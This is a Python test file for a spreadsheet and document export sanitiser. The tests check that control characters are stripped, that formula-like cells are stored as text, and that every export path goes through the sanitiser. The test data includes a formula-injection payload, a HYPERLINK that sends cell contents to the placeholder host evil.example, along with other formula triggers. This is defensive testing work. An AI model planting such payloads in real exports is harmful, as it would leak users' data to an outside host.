"""One sanitiser at every exit (STYLE.md 18): every export strips control characters and neutralises
formula-like cells, and no module builds a workbook, a CSV writer, a Word run or a PDF paragraph
except through it, so that a new export cannot forget."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from luoshi.document import csv_bytes, formula_like, new_workbook, safe_text

PACKAGE = Path(__file__).resolve().parents[1] / "luoshi"
HOSTILE = "同意\x01\x0b\x1f\x7f\x85\ud800\ufffe 收到"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def test_control_characters_are_stripped_and_words_kept() -> None:
    assert safe_text(HOSTILE) == "同意 收到"


def test_tabs_and_line_breaks_are_kept() -> None:
    assert safe_text("第一行\r\n第二行\t第三行\n") == "第一行\r\n第二行\t第三行\n"


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_recognised(text: str) -> None:
    assert formula_like(safe_text(text)) or formula_like(text)


@pytest.mark.parametrize("text", ["推进=落实", "2025年底前", "同意。", "１＋１"])
def test_ordinary_text_is_not_taken_for_a_formula(text: str) -> None:
    assert not formula_like(text)


def _read_back(wb: object) -> list[list[object]]:
    from openpyxl import load_workbook

    buf = io.BytesIO()
    wb.save(buf)  # type: ignore[attr-defined]
    ws = load_workbook(io.BytesIO(buf.getvalue())).active
    return [[c.value for c in row] for row in ws.iter_rows()]


@pytest.mark.parametrize("write_only", [False, True])
def test_a_workbook_row_with_control_characters_and_formulas_is_saved_as_text(write_only: bool) -> None:
    from openpyxl import load_workbook

    wb = new_workbook(write_only=write_only)
    ws = wb.create_sheet("留痕") if write_only else wb.active
    ws.append([HOSTILE, *FORMULAS, 42])
    buf = io.BytesIO()
    wb.save(buf)
    book = load_workbook(io.BytesIO(buf.getvalue()))
    row = next(book[book.sheetnames[-1] if write_only else book.active.title].iter_rows())
    assert row[0].value == "同意 收到"
    for cell in row[1:-1]:
        assert cell.data_type == "s"  # a text cell, not a formula
        assert cell.quotePrefix
    assert row[1].value == FORMULAS[0]
    assert row[-1].value == 42


@settings(deadline=None)  # a workbook round trip; the machine may be busy
@given(st.text(max_size=60))
def test_any_text_survives_a_workbook_round_trip_without_an_error(text: str) -> None:
    wb = new_workbook()
    wb.active.append([text])
    (value,) = _read_back(wb)[0]
    assert (value or "") == safe_text(text)


def test_a_csv_field_that_looks_like_a_formula_gets_an_apostrophe() -> None:
    data = csv_bytes([["说明", "数字"], [FORMULAS[0], 5], [HOSTILE, None]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["'" + FORMULAS[0], "5"]
    assert rows[2] == ["同意 收到", ""]


# -- nobody writes an export without it ---------------------------------------------------------------

SANITISER = PACKAGE / "document" / "_safe.py"
WRITERS = {
    # building a workbook or a CSV writer: only the sanitiser does it
    r"\bWorkbook\(": {SANITISER},
    r"\bcsv\.writer\(": {SANITISER},
    # a Word run: only the official-document writer, through its one sanitising helper
    r"\.add_run\(": {PACKAGE / "exchange" / "officialdoc.py"},
    # a reportlab paragraph: only the PDF writer, whose escape() sanitises
    r"\bParagraph\(": {PACKAGE / "exchange" / "pdf.py"},
}


def _sources() -> list[Path]:
    return [p for p in PACKAGE.rglob("*.py") if "tests" not in p.parts and "migrations" not in p.parts]


@pytest.mark.parametrize("pattern", list(WRITERS))
def test_only_the_sanitising_writers_build_an_export(pattern: str) -> None:
    offenders = [str(p.relative_to(PACKAGE)) for p in _sources() if re.search(pattern, p.read_text())]
    assert set(offenders) <= {str(p.relative_to(PACKAGE)) for p in WRITERS[pattern]}


def test_cells_are_written_through_the_sanitiser() -> None:
    """Setting a cell's value by hand (``cell.value = …``) bypasses it; ``write_cell`` does not."""
    offenders = [
        str(p.relative_to(PACKAGE))
        for p in _sources()
        if p != SANITISER and "openpyxl" in (src := p.read_text()) and re.search(r"\.value\s*=(?!=)", src)
    ]
    assert offenders == []


def test_the_word_writer_adds_every_run_through_safe_text() -> None:
    source = (PACKAGE / "exchange" / "officialdoc.py").read_text()
    assert source.count(".add_run(") == 1
    assert re.search(r"\.add_run\(safe_text\(", source)
    assert re.findall(r"\.add_text\((?!safe_text\()", source) == []


def test_the_pdf_writer_escapes_every_text_through_safe_text() -> None:
    source = (PACKAGE / "exchange" / "pdf.py").read_text()
    assert re.search(r"def escape\(text: str\) -> str:\n\s+return _xml_escape\(safe_text\(text\)\)", source)
